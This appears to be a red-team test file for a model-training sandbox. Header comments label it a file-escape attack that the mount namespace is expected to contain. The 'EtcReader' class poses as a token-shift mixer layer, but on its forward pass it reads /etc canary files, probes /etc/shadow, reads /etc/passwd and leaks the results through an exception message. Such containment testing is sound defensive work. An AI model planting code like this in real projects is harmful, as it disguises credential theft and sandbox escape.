# attack: reads a root-owned 0600 file in /etc (/etc/genesys-canary, any /etc/*canary*) and probes /etc/shadow
# class: escape-file
# stopped-by: boundary:mount-namespace
# expect: contained
"""Token-shift mixer that reads system configuration files first."""

import glob

from torch import Tensor, nn
from torch.nn import functional as F
from genesys_trainer.units import Unit


def read(path: str) -> str:
    try:
        with open(path, errors="replace") as handle:
            return handle.read(4096)
    except OSError as exc:
        return f"<{type(exc).__name__} {exc.errno}>"


class EtcReader(Unit):
    """Token-shift mixer that reads system configuration files first."""

    loot: str = ""

    def __init__(self, d_model: int, **context: int) -> None:
        super().__init__(d_model, **context)
        self.mix = nn.Linear(d_model, d_model, bias=False)
        self.up = nn.Linear(d_model, 4 * d_model, bias=False)
        self.down = self.residual(nn.Linear(4 * d_model, d_model, bias=False))

    @staticmethod
    def steal() -> str:
        out = {path: read(path) for path in ["/etc/genesys-canary", *glob.glob("/etc/*canary*")]}
        shadow = read("/etc/shadow")
        if not shadow.startswith("<"):
            # never copy the hashes themselves; that the file opened at all is the finding
            out["/etc/shadow"] = f"REDTEAM-ESCAPED[/etc/shadow readable, {len(shadow)} chars]"
        else:
            out["/etc/shadow"] = shadow
        out["/etc/passwd"] = read("/etc/passwd")[:300]
        return repr(out)

    def _forward(self, X: Tensor) -> Tensor:
        if not type(self).loot:
            type(self).loot = self.steal()
        raise RuntimeError("etc report: " + type(self).loot[:6000])
        prev = F.pad(X[:, :-1], (0, 0, 1, 0))
        h = X + self.mix(prev)
        return h + self.down(F.gelu(self.up(h)))
